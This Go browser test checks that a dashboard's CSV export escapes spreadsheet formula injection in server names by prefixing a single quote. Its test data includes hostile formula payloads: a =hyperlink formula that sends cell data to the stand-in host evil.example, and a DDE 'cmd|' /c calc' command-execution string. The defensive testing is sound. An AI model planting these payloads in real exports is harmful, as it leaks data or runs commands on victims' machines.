package webui_test

import (
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/chromedp/chromedp"
	"github.com/fnapi/fnapi/examples/dataservice/app"
	"github.com/fnapi/fnapi/examples/dataservice/internal/testenv"
)

// TestBrowserCSV downloads a table widget's CSV whose server names, learned from the network
// (SNI, Host), begin as spreadsheet formulas: each such text cell is written after a single
// quote (OWASP's CSV injection), while negative numbers stay numbers (issue 45, finding 12).
func TestBrowserCSV(t *testing.T) {
	t.Parallel()
	chrome := testenv.Chromium(t)
	srv, _, _ := startServiceWith(t, app.Config{})
	names := []string{`=hyperlink("https://evil.example/?"&a1,"open")`, "+1+cmd|' /c calc'!a0", "-2+3", "@sum(1+1)", "example.com"}
	var token string
	call(t, srv.Client(), srv.URL, "login", map[string]any{"user": "admin", "password": adminPassword}, &token)
	var records []map[string]any
	for i, name := range names {
		records = append(records, map[string]any{
			"time": time.Now().Unix() - 60, "protocol": "tcp", "server_name": name,
			"client": map[string]any{"ip": "203.0.113.9", "port": 40000 + i, "bytes": 1000 * (i + 1), "packets": 1},
			"server": map[string]any{"ip": "203.0.113.80", "port": 443, "bytes": 100, "packets": 1},
		})
	}
	call(t, srv.Client(), srv.URL, "ingest", map[string]any{"records": records, "_session": token}, nil)

	browser := testenv.Browser(t, chrome)
	p, problems := openTab(t, browser)
	p.signIn(srv.URL + "/")
	p.createDashboard("CSV")
	p.addWidget("Names", "table", "server.traffic - client.traffic BY server.name WHERE server.ip = 203.0.113.80")
	p.poll(`document.querySelectorAll('.widget[data-kind=table] tbody tr').length === 5`)
	p.eval(`(window.csvBlob = null, URL.createObjectURL = ((make) => (b) => { window.csvBlob = b; return make(b); })(URL.createObjectURL), '')`)
	p.do(chromedp.Click(chromedp.CSS(".widget[data-kind=table] .csv-widget")))
	p.poll(`window.csvBlob !== null`)
	lines := strings.Split(strings.TrimSuffix(p.eval(`window.csvBlob.text()`), "\r\n"), "\r\n")
	slices.Sort(lines[1:])
	want := []string{
		"server.name,server.traffic - client.traffic",
		`'+1+cmd|' /c calc'!a0,-1900`,
		`"'=hyperlink(""https://evil.example/?""&a1,""open"")",-900`,
		"'-2+3,-2900",
		"'@sum(1+1),-3900",
		"example.com,-4900",
	}
	slices.Sort(want[1:])
	if !slices.Equal(lines, want) {
		t.Errorf("the CSV is\n%s\nwant\n%s", strings.Join(lines, "\n"), strings.Join(want, "\n"))
	}
	if msgs := problems(); len(msgs) > 0 {
		t.Errorf("the page logged problems:\n%s", strings.Join(msgs, "\n"))
	}
}
